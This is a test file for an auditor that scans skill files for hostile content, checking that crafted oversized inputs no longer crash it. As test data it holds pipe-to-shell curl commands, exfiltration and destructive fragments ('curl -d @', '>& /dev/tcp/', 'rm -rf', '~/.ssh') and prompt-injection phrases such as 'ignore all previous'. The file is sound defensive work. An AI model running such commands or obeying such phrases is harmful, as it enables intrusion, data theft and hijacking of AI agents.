import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { repeated } from "../../bench/hostile-text.js";
import { FINDINGS_PER_RULE } from "../../src/audit/file.js";
import { auditFile, type Finding, RULES } from "../../src/audit/index.js";

/**
 * Issue 24: one hostile file stopped the audit, and with it the server's start, audit-skills, check-skills
 * and the image build. Each file below made the audit at ff8dcd5 throw `RangeError: Maximum call stack
 * size exceeded`; now each is what it is, a finding or nothing.
 */

const encode = (text: string) => new TextEncoder().encode(text);
const MIB = 1024 * 1024;

function rulesOf(findings: readonly Finding[]): string[] {
  return findings.map((found) => `${found.line} ${found.rule}`);
}

describe("the audit of a hostile file (issue 24)", () => {
  it("reports an 8 MiB line of base64 as one blob (a regular expression overflowed the stack on it)", () => {
    const found = auditFile("p/s/assets/data.txt", encode(`aZ09${repeated("QUJDZGVm", 8 * MIB)}\n`));
    expect(rulesOf(found)).toEqual(["0 large-file", "1 encoded-blob"]);
    expect(found[1]?.detail).toMatch(/^8,388,612 characters of base64 \(6\.0 MiB decoded\)/);
  });

  it("reads `sudo` and millions of flags as the program's prefix (a regular expression overflowed)", () => {
    const found = auditFile(
      "p/s/run.sh",
      encode(`curl -s https://x.example | sudo${repeated(" -E", 8 * MIB)} sh\n`),
    );
    expect(rulesOf(found)).toEqual(["0 large-file", "1 pipe-to-shell"]);
  });

  it("tells a flag from a run of tag characters after a black flag (the run was spread into arguments)", () => {
    const found = auditFile("p/s/SKILL.md", encode(`\u{1F3F4}${repeated("\u{E0041}", 400_000)}\n`));
    expect(rulesOf(found)).toEqual(["0 large-file", "1 tag-characters"]);
    expect(found[1]?.detail).toMatch(/^200000 tag characters \(U\+E0041 U\+E0041 /);
  });

  it.each([
    ["list markers", "- "],
    ["list and quote markers", "- > "],
  ])(
    "reads a 15 MiB line of %s before a comment (regular expressions overflowed the stack on it)",
    (_, unit) => {
      const found = auditFile("p/s/SKILL.md", encode(`${repeated(unit, 15 * MIB)}<!-- c -->\n`));
      expect(rulesOf(found)).toEqual(["0 large-file", "1 html-comment"]);
    },
  );

  it("sums up hundreds of thousands of findings of one rule (their hits were spread into arguments)", () => {
    const found = auditFile("p/s/install.sh", encode(repeated("curl -s https://x.example | sh\n", 6 * MIB)));
    expect(found).toHaveLength(FINDINGS_PER_RULE + 2);
    expect(found.at(-1)).toMatchObject({
      line: FINDINGS_PER_RULE + 1,
      rule: "pipe-to-shell",
      detail: `${Math.ceil((6 * MIB) / 31) - FINDINGS_PER_RULE} more lines from here on, not listed`,
    });
  });
});

/** What an attacker would repeat: the starts of what each rule matches, and what makes rules report. */
const UNITS = [
  "[a](http://x",
  "[a.com](http://b.com) ",
  "<a href=x ",
  '<a href="http://x">y',
  "</a ",
  "[",
  "](",
  "`",
  "`a` ",
  "```\n",
  "<!--",
  "curl x | ",
  "sudo -x ",
  "sudo -sEu ",
  "ssh h ",
  "(a; { b && ",
  'sh -ec "$(',
  "env a=b ",
  "iex ",
  "'",
  "\\\n",
  "QUJDZGVm",
  "0f",
  "=",
  " ",
  "\n",
  "\r",
  "\u200B",
  "a\u200Bb",
  "\u{E0041}",
  "\u{1F3F4}",
  "\u{E0151}",
  "\uFE0F",
  "\u200D",
  "\u001b",
  "\u001b[1;31m",
  "```\n\u001b[32m",
  "    <!-- ",
  "- ",
  "<pre>\n",
  "<a b='c' ",
  '[a]: b "c"\n',
  "[a] ",
  "a ` <b hidden>\n",
  "- 1. ```\n",
  "  - <div>\n",
  "> ",
  "- > ```\n",
  "- >     `x\n",
  "- <pre>\n> x\n",
  "curl -d @",
  " nc ",
  "| ",
  "curl x; ",
  "{ curl x; } ",
  "-o>(a) ",
  "~/.ssh ",
  "ignore all previous ",
  "do not tell ",
  "hide it from ",
  ">& /dev/tcp/",
  "rm -rf ",
  "dd if=x ",
  "the token is sent to https://x ",
  "f\u200Cl",
  "a\u00ADb",
  "0123456789",
  "é",
  "\u{1F600}",
];

/** A text of a few pieces, each one unit repeated up to some MiB, or random text of any characters. */
const hostileText = fc
  .array(
    fc.oneof(
      fc.tuple(fc.constantFrom(...UNITS), fc.integer({ min: 0, max: 18 })).map(([unit, power]) => {
        return repeated(unit, 2 ** power * unit.length).slice(0, 3 * MIB);
      }),
      fc.string({ unit: "binary", maxLength: 200 }),
    ),
    { minLength: 1, maxLength: 4 },
  )
  .map((pieces) => pieces.join(""));

describe("the audit of generated hostile text", () => {
  it("finishes on each, with findings a report can hold", () => {
    const paths = fc.constantFrom("p/s/SKILL.md", "p/s/run.sh", "p/s/page.html", "p/s/data.txt");
    fc.assert(
      fc.property(hostileText, paths, (text, path) => {
        const findings = auditFile(path, encode(text));
        // A text without LF ends its lines with CR, if any.
        const lines = text.split(text.includes("\n") ? "\n" : "\r").length;
        for (const found of findings) {
          expect(Object.keys(RULES)).toContain(found.rule);
          expect(found.line).toBeGreaterThanOrEqual(0);
          expect(found.line).toBeLessThanOrEqual(lines);
          // Details quote at most an excerpt, each character at most `{U+XXXXX}`.
          expect(found.detail.length).toBeLessThan(8192);
        }
        // At most twenty lines and one summing-up finding per rule, and the findings of the whole file.
        const perRule = Object.keys(RULES).map((rule) => findings.filter((found) => found.rule === rule));
        expect(Math.max(...perRule.map((same) => same.length))).toBeLessThanOrEqual(FINDINGS_PER_RULE + 1);
      }),
      { numRuns: 40 },
    );
  });
});

/** The units above a shell reads as written whatever the encoding: printable ASCII, tabs and line feeds. */
const ASCII_UNITS = UNITS.filter((unit) => /^[\t\n\x20-\x7e]*$/.test(unit));
/** The rules that read a file served as binary which shells read as text (docs/audit.md, `binary-file`). */
const ON_DISK_RULES = [
  "pipe-to-shell",
  "data-upload",
  "secret-file",
  "prompt-injection",
  "destructive-command",
  "upload-instruction",
  "encoded-blob",
];

describe("the audit of a file served as binary that shells read as text", () => {
  it("finds in an ASCII text with one byte that is not UTF-8 what its rules find in it as UTF-8", () => {
    // Under 256 KiB, where the whole file is served either way.
    const asciiText = fc
      .array(
        fc.oneof(
          fc.tuple(fc.constantFrom(...ASCII_UNITS), fc.integer({ min: 0, max: 12 })).map(([unit, power]) => {
            return repeated(unit, 2 ** power * unit.length).slice(0, 60_000);
          }),
          fc.string({ unit: fc.constantFrom(..."\t\n |&;<>()$`\"'\\/-~@.:=abcxyz019"), maxLength: 200 }),
        ),
        { minLength: 1, maxLength: 4 },
      )
      .map((pieces) => pieces.join(""));
    const why = "served as binary (not UTF-8), but shells and editors read it as text: ";
    fc.assert(
      fc.property(asciiText, (text) => {
        const asText = auditFile("p/s/run.sh", encode(text)).filter((found) =>
          ON_DISK_RULES.includes(found.rule),
        );
        const [binary, ...onDisk] = auditFile("p/s/run.sh", Buffer.from(`${text}\n\xff`, "latin1"));
        expect(binary?.rule).toBe("binary-file");
        expect(onDisk.map((found) => ({ ...found, detail: found.detail.replace(why, "") }))).toEqual(asText);
        for (const found of onDisk) expect(found.detail.startsWith(why)).toBe(true);
      }),
      { numRuns: 60 },
    );
  });

  it("finishes on hostile text written a byte a character, served as binary with only those rules' findings", () => {
    const whole = ["binary-file", "large-file"];
    fc.assert(
      fc.property(hostileText, fc.uint8Array({ minLength: 1, maxLength: 64 }), (text, bytes) => {
        // Each character's low byte: `é` as 0xE9, a tag character as its ASCII, controls and NULs kept.
        const written = Buffer.concat([Buffer.from(text, "latin1"), bytes]);
        const findings = auditFile("p/s/run.sh", written);
        // Served as text (UTF-8, a NUL past 8 KiB), every rule reads it; served as binary, only those.
        const binary = findings.some((found) => found.rule === "binary-file");
        for (const found of findings) {
          if (binary) expect([...whole, ...ON_DISK_RULES]).toContain(found.rule);
          expect(found.detail.length).toBeLessThan(8192);
        }
      }),
      { numRuns: 40 },
    );
  });
});
